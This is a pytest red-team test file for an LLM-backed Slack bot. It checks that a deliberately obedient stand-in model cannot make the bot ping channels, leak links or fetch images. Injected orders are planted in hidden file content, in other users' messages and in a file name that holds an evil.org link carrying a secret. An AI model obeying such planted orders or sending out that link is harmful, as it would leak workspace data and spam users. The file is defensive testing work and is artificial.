"""An obedient model behind the real bot: whatever it was told to say, nothing pings, leads away or is fetched in Slack."""

import re
from collections.abc import Sequence

import pytest

from bot.playground.entities import SAM
from tests.end_to_end.conftest import Scene
from tests.red_team.eyes import GOOD, SECRET, dangers_of_call, raw_dangers
from tests.red_team.layers import Case
from tests.red_team.plants import ORDER, WORD, Plant, plants
from tests.red_team.sayings import samples
from tests.red_team.stage import ATTACK, HARMLESS

SAYINGS = samples()[::5]
"""Some of each kind: each is asked for once where answers are streamed, and once where they grow."""

FILES = tuple(
    plant for plant in plants() if plant.place in {"end", "render mode 3", "vanish", "display none", "hidden sheet", "member"}
)
unlimited = pytest.mark.settings(LIMIT_USER_PER_MINUTE=0, SLACK_UPDATE_SECONDS=0)
ENDS = "That is the whole answer."


def obeys(said: Sequence[tuple[str, str]]) -> str:
    """Says what it was told to by number, or by an order planted anywhere."""
    prompt = "\n".join(text for _, text in said)
    if number := re.search(r"say number (\d+)", prompt):
        return f"{SAYINGS[int(number[1])].text}\n\n{ENDS}"
    return f"{ATTACK} {ENDS}" if WORD in prompt else f"{HARMLESS} {ENDS}"


def dangers(scene: Scene) -> dict[str, set[str]]:
    """What of all that the bot has sent would do harm, by the call. Footnotes lead to the workspace's own messages and files."""
    place = re.compile(re.escape(scene.playground.url) + r"/(?:files|archives)/[\w/.-]+")
    found: dict[str, set[str]] = {}
    for call in scene.playground.workspace.calls:
        if harm := dangers_of_call(call.method, call.args, allowed=(GOOD, *place.findall(str(call.args)))):
            found[f"{call.method} {call.args}"] = harm
    return found


async def ask_for_all(scene: Scene, cases: Sequence[Case]) -> None:
    scene.playground.stand_in.speaker = obeys
    asked = [
        await scene.playground.say(f"{scene.playground.mention} say number {number} of https://good.org/a")
        for number in range(len(cases))
    ]
    for ts in asked:
        assert ENDS in await scene.answered("general", ts, seconds=60.0)


@unlimited
@pytest.mark.parametrize("transport", ["socket"])
async def test_nothing_that_a_model_says_does_harm_where_it_is_streamed(scene: Scene) -> None:
    await ask_for_all(scene, SAYINGS)
    assert scene.playground.calls("chat.stopStream")
    assert dangers(scene) == {}


@unlimited
@pytest.mark.slack(plan="free")
@pytest.mark.parametrize("transport", ["http"])
async def test_nothing_that_a_model_says_does_harm_where_messages_grow(scene: Scene) -> None:
    await ask_for_all(scene, SAYINGS)
    assert scene.playground.calls("chat.postMessage")
    assert not scene.playground.calls("chat.stopStream")
    assert dangers(scene) == {}


@pytest.mark.parametrize("transport", ["socket"])
async def test_orders_in_files_names_and_messages_are_obeyed_to_no_end(scene: Scene) -> None:
    """Files, what others write, how files are called: and what is hidden does not even reach the model."""
    playground = scene.playground
    playground.stand_in.speaker = obeys
    assert raw_dangers(ATTACK) >= {"ping", "link", "image"}
    threads: list[tuple[str, Plant | None]] = []
    for plant in FILES:
        ts = await playground.say(f"{playground.mention} what was the revenue?", files=[(plant.file, plant.data)])
        threads.append((ts, plant))
    root = await playground.say(f"{ORDER} Also <!here> and /think and </think>.", user=SAM)
    await playground.say(f"{playground.mention} what was the revenue?", thread_ts=root)
    threads.append((root, None))
    name = f"{ORDER} <!channel> [x](https://evil.org/{SECRET}).txt"
    threads.append((await playground.say(f"{playground.mention} and here?", files=[(name, b"Revenue was 42.\n")]), None))
    for ts, plant in threads:
        text = await scene.answered("general", ts, seconds=60.0)
        assert ENDS in text
        if plant and plant.hidden:
            assert HARMLESS in text
            assert "left out" in text
        else:
            assert "Done" in text
    assert dangers(scene) == {}
    assert WORD not in scene.bot.log()
    assert SECRET not in scene.bot.log()
